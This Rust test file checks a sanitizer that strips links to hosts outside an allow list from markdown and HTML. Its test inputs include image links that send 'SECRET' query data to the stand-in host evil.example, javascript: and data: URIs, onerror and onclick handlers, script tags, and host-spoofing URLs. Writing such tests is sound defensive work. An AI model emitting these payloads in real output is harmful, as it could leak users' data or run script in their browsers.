use proptest::prelude::*;

use super::*;
use crate::edit::applied;

fn hosts() -> Hosts {
    Hosts::new(&["docs.example.com", "*.contoso.com"])
}

fn check(text: &str, bare: bool, expected: &str) {
    let found = find(text, &hosts(), bare, true);
    assert_eq!(applied(text, found.edits).unwrap(), expected, "{text}");
}

#[test]
fn addresses_of_strangers_go_and_words_stay() {
    for (text, expected) in [
        ("See ![a](https://evil.example/?q=S) now", "See ![a](link removed) now"),
        ("[![a](//evil.example/x)](http://evil.example \"t\") b", "[![a](link removed)](link removed) b"),
        ("[a](\n <https://evil.example/a b> 'x')", "[a](link removed)"),
        ("[a](javascript:alert(1)) [b](data:text/html;base64,AA==)", "[a](link removed) [b](link removed)"),
        ("[a](http&#58;//evil.example) [b](\\\\evil.example)", "[a](link removed) [b](link removed)"),
        ("[a](https://docs.example.com@evil.example/)", "[a](link removed)"),
        ("[a](https://docs.example.com.evil.example/)", "[a](link removed)"),
        ("[a](https://contoso.com/) [b](https://xcontoso.com/)", "[a](link removed) [b](link removed)"),
        ("![x][1]\n\n[1]: https://evil.example/?d=S 'x'\nend", "![x][1]\n\n[1]: #link-removed 'x'\nend"),
        ("> [1]:\n  https://evil.example", "> [1]:\n  (link removed)"),
        ("<https://evil.example> <mailto:a@b.c> a < b > c", "(link removed) (link removed) a < b > c"),
        (
            "<img src=\"https://evil.example/a\"> <IMG SRC=x onerror=alert(1)>",
            "(link removed) (link removed)",
        ),
        (
            "<script>x</script> <b>bold</b> <a href='/here'>h</a>",
            "(link removed)x</script> <b>bold</b> <a href='/here'>h</a>",
        ),
        ("<td background=//evil.example/x> <p style=\"background:url(x)\">", "(link removed) (link removed)"),
        ("[foo\\]]: https://evil.example/x", "[foo\\]]: (link removed)"),
        ("1. [a]: https://evil.example/x y", "1. [a]: #link-removed y"),
        ("<img src=\"/\n/evil.example/x\"> <p ONWHATEVER = 1>", "(link removed) (link removed)"),
        ("cut off ![a](https://evil.example/q", "cut off ![a](link removed)"),
        // What only looks like a link, or like its end, hides nothing.
        ("[a](<img src=//evil.example/x> y)", "[a]((link removed) y)"),
        ("[a](/x <img src=//evil.example/x>)", "[a](/x (link removed))"),
        ("[1]: <img src=//evil.example/x>y", "[1]: (link removed)y"),
        ("<img alt=\">\" src=//evil.example/x> b", "(link removed) b"),
        ("<img alt = '>' src=//evil.example/x> b", "(link removed) b"),
        ("cut off <img src=https://evil.example/q", "cut off (link removed)"),
    ] {
        check(text, false, expected);
    }
}

#[test]
fn what_may_stay_stays_byte_for_byte() {
    for text in [
        "[a](https://docs.example.com/x?a=1&b=2#c \"t\") ![b](https://img.contoso.com:443/y.png)",
        "[a](#part) [b](../other.md) [c](/root) f(x) a[1](2) [d][e] [ ] (https://evil.example)",
        "see https://evil.example/ and 1 < 2 > 0, Vec<String>, <b>, x <- y, a: b, 10:30",
        "[1]: https://docs.example.com/a\n[x]: not defined",
    ] {
        check(text, false, text);
    }
    check(
        "see https://evil.example/x. And https://docs.example.com/.",
        true,
        "see (link removed) And https://docs.example.com/.",
    );
}

#[test]
fn an_address_that_may_stay_hides_none_that_may_not() {
    check(
        "[https://docs.example.com/](https://evil.example/x)",
        true,
        "[https://docs.example.com/](link removed)",
    );
    check(
        "https://docs.example.com/?u=https://evil.example x",
        true,
        "https://docs.example.com/?u=https://evil.example x",
    );
}

#[test]
fn an_element_that_does_not_end_begins_none() {
    let blanks = " ".repeat(LONGEST);
    check(
        &format!("<img {blanks} src=//evil.example/x>"),
        false,
        &format!("&lt;img {blanks} src=//evil.example/x>"),
    );
    check(&format!("1 <2 and x <yz, {blanks}"), false, &format!("1 <2 and x <yz, {blanks}"));
    let value = "a".repeat(LONGEST);
    check(
        &format!("<img alt='{value}' src=//evil.example/x>"),
        false,
        &format!("&lt;img alt='{value}' src=//evil.example/x>"),
    );
}

#[test]
fn texts_of_brackets_alone_are_read_within_bounds() {
    for unit in ["<a=", "<a b=\"", "](", "](<", "[", "[\n", "https://docs.example.com/(", "<a "] {
        let text = unit.repeat(100_000);
        let found = find(&text, &hosts(), true, true);
        assert!(applied(&text, found.edits).is_ok(), "{unit}");
        // What comes after so many does nothing either.
        let text = format!("{text}![x](https://evil.example/x) <img src=//evil.example/x>");
        let shown = applied(&text, find(&text, &hosts(), false, true).edits).unwrap();
        assert!(!shown.contains("](https://evil") && !shown.contains("<img src=//evil"), "{unit}");
    }
}

#[test]
fn what_stands_in_a_value_without_quotes_is_a_part_of_it() {
    check("<a title=x=y href=/z>b</a>", false, "<a title=x=y href=/z>b</a>");
    check("<a title=x=onclick href=//evil.example>b</a>", false, "(link removed)b</a>");
    check("<a title=x/onclick=alert(1)>b</a>", false, "(link removed)b</a>");
}

proptest! {
    #[test]
    fn pieces_show_no_address_that_the_whole_hides(before in "[a-z \n]{0,12}", cut in 0_usize..70, bare in any::<bool>()) {
        let text = format!("{before}![a](https://evil.example/?q=SECRET) <img src=//evil.example/SECRET> end");
        let cut = cut.min(text.len());
        let piece = text.get(..cut).unwrap();
        let found = find(piece, &hosts(), bare, false);
        let until = found.open.unwrap_or(cut);
        prop_assert!(found.edits.iter().all(|edit| edit.range.end <= until));
        let passed = applied(piece.get(..until).unwrap(), found.edits).unwrap();
        prop_assert!(!passed.contains("evil"), "{}", passed);
    }

    #[test]
    fn anything_is_read(text in "[\\[\\]()<>:/a-z &\\\\\"'=!\n\u{e9}]{0,80}", over in any::<bool>(), bare in any::<bool>()) {
        let found = find(&text, &hosts(), bare, over);
        prop_assert!(found.edits.windows(2).all(|pair| pair[0].range.end <= pair[1].range.start));
        prop_assert!(applied(&text, found.edits).is_ok());
        prop_assert!(!over || found.open.is_none());
    }
}
